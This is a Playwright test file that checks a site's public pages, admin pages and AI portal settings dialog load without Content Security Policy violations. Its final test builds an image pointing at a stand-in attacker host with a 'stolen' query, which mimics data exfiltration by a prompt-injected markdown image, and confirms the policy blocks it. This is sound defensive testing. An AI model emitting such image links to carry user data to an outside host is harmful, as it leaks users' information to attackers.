import { expect, test, type Page } from '@playwright/test';
import { reuseSignIn, testAdmins } from './support/accounts';
import { openTab } from './support/portal';

type Watched = Window & { __cspViolations?: string[] };

/** Records every CSP violation the page reports, from its first script on. */
async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
  const console: string[] = [];
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) console.push(message.text());
  });
  await page.addInitScript(() => {
    const watched = window as Watched;
    watched.__cspViolations = [];
    document.addEventListener('securitypolicyviolation', (event) =>
      watched.__cspViolations!.push(`${event.violatedDirective} ${event.blockedURI}`),
    );
  });
  return async () => [...console, ...(await page.evaluate(() => (window as Watched).__cspViolations ?? []))];
}

test('public pages load, hydrate and run their islands without a CSP violation', async ({ page }) => {
  const violations = await watchViolations(page);
  for (const path of ['/', '/about', '/portfolio', '/donate', '/no-such-page']) {
    await page.goto(path);
    await page.waitForLoadState('networkidle');
    expect(await violations(), path).toEqual([]);
  }
  // /contact starts ALTCHA's proof-of-work workers (from this origin, not blob: URLs) as it loads.
  await page.goto('/contact?topic=tech');
  await page.waitForFunction(
    () =>
      (document.querySelector('altcha-widget') as (Element & { getState?: () => string }) | null)?.getState?.() ===
      'verified',
  );
  expect(await violations(), '/contact').toEqual([]);
  // The header's client island works (hydrated): the phone menu opens.
  await page.setViewportSize({ width: 390, height: 800 });
  await page.goto('/');
  await page.getByRole('button', { name: 'Open menu' }).click();
  await expect(page.locator('#mobile-menu')).toBeVisible();
  expect(await violations()).toEqual([]);
});

test('admin pages load and work without a CSP violation; an image from another host is blocked', async ({ page }) => {
  const violations = await watchViolations(page);
  for (const path of ['/admin/login', '/admin/register']) {
    await page.goto(path);
    await page.waitForLoadState('networkidle');
    expect(await violations(), path).toEqual([]);
  }
  await reuseSignIn(page, testAdmins.editor);
  await expect(page.getByRole('button', { name: 'DEACTIVATE' })).toBeVisible();
  await page.waitForLoadState('networkidle');
  expect(await violations(), '/admin/dashboard').toEqual([]);

  // An unknown admin path renders the 404 per request, so its scripts carry the nonce too.
  expect((await page.goto('/admin/no-such-page'))?.status()).toBe(404);
  await page.waitForLoadState('networkidle');
  expect(await violations(), '/admin/no-such-page').toEqual([]);

  await page.goto('/test-supabase');
  await page.waitForLoadState('networkidle');
  expect(await violations(), '/test-supabase').toEqual([]);

  await page.goto('/ai-portal');
  await expect(page.getByRole('heading', { name: 'AI COMMAND PORTAL' })).toBeVisible();
  await openTab(page, 'Settings');
  await page.getByRole('button', { name: 'Add Key' }).click();
  await expect(page.getByRole('dialog', { name: 'Add API Key' })).toBeVisible();
  await page.keyboard.press('Escape');
  await page.waitForLoadState('networkidle');
  expect(await violations(), '/ai-portal').toEqual([]);

  // What a prompt-injected markdown image would try: carry data to a host of its choosing.
  const blocked = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) =>
          resolve(`${event.effectiveDirective} ${event.blockedURI}`),
        );
        const image = new Image();
        image.src = 'https://attacker.example/pixel.png?stolen=1';
        document.body.append(image);
      }),
  );
  expect(blocked).toBe('img-src https://attacker.example/pixel.png?stolen=1');
});
